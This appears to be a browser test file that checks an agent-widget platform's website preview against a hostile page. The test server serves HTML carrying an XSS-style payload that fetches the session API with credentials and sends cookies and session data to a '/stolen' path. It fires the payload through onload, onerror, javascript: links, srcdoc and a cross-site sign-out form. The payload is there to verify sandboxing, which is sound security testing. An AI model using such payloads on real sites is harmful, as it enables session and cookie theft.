/** The pages that show an agent to others in a browser: the demo, the share page, and the preview on a hostile website. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Person, startTestPlatform, type TestPlatform } from '../src/test-platform.ts'
import { axeFindings } from './axe-findings.ts'
import { launchBrowser, patience, watch } from './browser.ts'
import { lookAt } from './look-at.ts'

/** What a hostile website tries, by every way that a page has to run something. */
const attack = `try { top.location = '/attacked'; } catch {} try { parent.document.title = 'attacked'; } catch {}
  fetch('ORIGIN/api/auth/session', { credentials: 'include' }).then((a) => a.text()).then((t) => fetch('/stolen?' + t)).catch(() => {});
  try { fetch('/stolen?' + document.cookie + localStorage.length); } catch {} parent.postMessage({ type: 'parley:close' }, '*');
  try { fetch('/stolen?' + parent.document.cookie); } catch {} try { open('/popup'); } catch {}`
const hostilePage = (origin: string) => {
  const script = attack.replaceAll('ORIGIN', origin)
  return `<!doctype html><html><head><title>Harbour Lamps</title><meta http-equiv="refresh" content="1;url=/refreshed">
  <script>${script}</script><style>body{font-family:sans-serif;background:#fff7e8;margin:0}h1{padding:40px}</style></head>
  <body onload="${script.replaceAll('"', "'")}"><h1>Lamps for the harbour</h1><a href="javascript:${script}" target="_top">Away</a>
  <img src="/missing.png" onerror="${script}"><svg onload="${script}"></svg><form action="${origin}/api/auth/sign-out" method="post" target="_top"><button>Send</button></form>
  <iframe srcdoc="<script>${script}</script>"></iframe><script type="module" src="/more.js"></script></body></html>`
}

let hits: string[] = []
let closed = true
let parley: TestPlatform
let person: Person
let browser: Browser
let agentId: string
let website: string
const site = createServer((request, response) => {
  const path = request.url ?? ''
  hits.push(path)
  if (path !== '/') return void response.writeHead(404).end()
  response.writeHead(200, {
    'content-type': 'text/html',
    ...(closed ? { 'x-frame-options': 'SAMEORIGIN' } : {}),
  })
  response.end(hostilePage(parley.url))
})

beforeAll(async () => {
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
  const { port } = site.address() as AddressInfo
  website = `http://localhost:${port}/`
  parley = await startTestPlatform({ ALLOW_PRIVATE_ADDRESSES: `localhost:${port}` })
  person = await parley.signUp()
  const created = await person.client.call('agents.save', {
    params: { region: 'na', agentId: 'harbour-agent-01' },
    body: { title: 'Harbour', description: 'Answers questions about lamps.', enableNodes: true },
  })
  agentId = created.data.ID
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  site.close()
  site.closeAllConnections()
  await parley?.stop()
})

async function opened(path: string, who?: Person) {
  const context = await browser.newContext({ locale: 'en-GB', viewport: { width: 1280, height: 800 } })
  context.setDefaultTimeout(patience)
  const watched = await watch(context, [parley.url, new URL(website).origin])
  const cookie = { name: 'parley_session', url: parley.url, httpOnly: true }
  if (who) await context.addCookies([{ ...cookie, value: who.token }])
  const page = await context.newPage()
  await page.goto(parley.url + path, { waitUntil: 'commit' })
  return { context, page, watched }
}
const preview = () => `/app/na/prototype?vg_id=${agentId}&website_url=${encodeURIComponent(website)}`
const launcher = (page: Page) => page.getByRole('button', { name: /chat/i }).first()
const chatOf = (page: Page) => page.frameLocator('iframe[src*="/frame"]')

test('the standard demo has the widget, in which a visitor is answered', async () => {
  const { context, page, watched } = await opened(`/app/na/prototype?vg_id=${agentId}`)
  await page.getByRole('heading', { name: 'Harbour' }).waitFor()
  await launcher(page).click()
  await chatOf(page).getByRole('log').waitFor()
  expect(await axeFindings(page)).toEqual([])
  await lookAt(page, 'standard-demo')
  expect(watched.faults).toEqual([])
  await context.close()
})

test('the share page has the chat in the page', async () => {
  const { context, page, watched } = await opened(`/share/na/${agentId}`)
  await page.getByRole('heading', { name: 'Harbour' }).waitFor()
  await page.frameLocator('iframe.chat').getByRole('log').waitFor()
  await lookAt(page, 'share-page')
  expect(watched.faults).toEqual([])
  await context.close()
})

test('a hostile website that forbids framing is shown as a snapshot that can do nothing', async () => {
  closed = true
  const { context, page } = await opened(preview(), person)
  const framed = page.frameLocator('iframe.website')
  await framed.getByRole('heading', { name: 'Lamps for the harbour' }).waitFor()
  await page.getByText('This website can’t be shown inside other pages').waitFor()
  await launcher(page).waitFor()
  const shared = page.url()
  hits = []
  await framed.getByText('Away').click()
  await framed.getByRole('button', { name: 'Send' }).click()
  const inside = page.frames().find((frame) => frame.url().includes('/prototype/snapshot'))
  expect(await inside?.evaluate(() => window.origin)).toBe('null')
  await launcher(page).click()
  await chatOf(page).getByRole('log').waitFor()
  expect(page.url()).toBe(shared)
  expect(await page.title()).toBe('Harbour')
  expect(hits.filter((path) => !['/missing.png', '/favicon.ico'].includes(path))).toEqual([])
  expect(context.pages()).toHaveLength(1)
  await person.client.call('auth.session', {})
  expect(await axeFindings(page)).toEqual([])
  await lookAt(page, 'website-preview')
  await context.close()

  const visitor = await opened(new URL(shared).pathname + new URL(shared).search)
  await visitor.page.frameLocator('iframe.website').getByRole('heading').waitFor()
  expect(await visitor.page.locator('.preview-bar').count()).toBe(0)
  await lookAt(visitor.page, 'website-preview-visitor')
  await visitor.context.close()
})

test('a hostile website that is framed itself reaches neither the session nor the page around it', async () => {
  closed = false
  website = `${website}?open`
  site.removeAllListeners('request')
  site.on('request', (request, response) => {
    hits.push(request.url ?? '')
    if (request.url !== '/?open') return void response.writeHead(404).end()
    response.writeHead(200, { 'content-type': 'text/html' }).end(hostilePage(parley.url))
  })
  hits = []
  const { context, page } = await opened(preview(), person)
  await expect.poll(() => hits.filter((path) => path.startsWith('/stolen')).length).toBeGreaterThan(0)
  await launcher(page).click()
  await chatOf(page).getByRole('log').waitFor()
  expect(hits.join()).not.toContain(person.email)
  expect(hits.join()).not.toContain(person.token)
  expect(page.url()).toContain('/app/na/prototype?')
  expect(await page.title()).toBe('Harbour')
  expect(context.pages()).toHaveLength(1)
  await context.close()
})

test('another address is entered with Enter, and what can’t be shown says why', async () => {
  const { context, page } = await opened(preview(), person)
  await page.getByLabel('Website Preview').fill('http://127.0.0.1:9/')
  await page.getByLabel('Website Preview').press('Enter')
  await page.getByRole('alert').getByText('127.0.0.1 is not an address on the public internet.').waitFor()
  await launcher(page).waitFor()
  await lookAt(page, 'website-preview-failed')
  await context.close()
})
